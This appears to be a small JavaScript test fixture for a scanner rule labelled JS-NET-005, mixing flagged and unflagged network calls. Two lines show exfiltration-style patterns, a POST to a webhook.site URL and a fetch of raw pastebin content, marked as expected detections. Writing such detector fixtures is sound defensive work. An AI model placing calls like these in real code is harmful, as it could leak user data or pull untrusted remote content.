fetch('https://webhook.site/abc-123', { method: 'POST', body: 'x' }); // expect: JS-NET-005
require('https').get('https://pastebin.com/raw/abcd'); // expect: JS-NET-005
fetch('https://api.example.com/v1/items');
console.log('see https://webhook.site for docs');
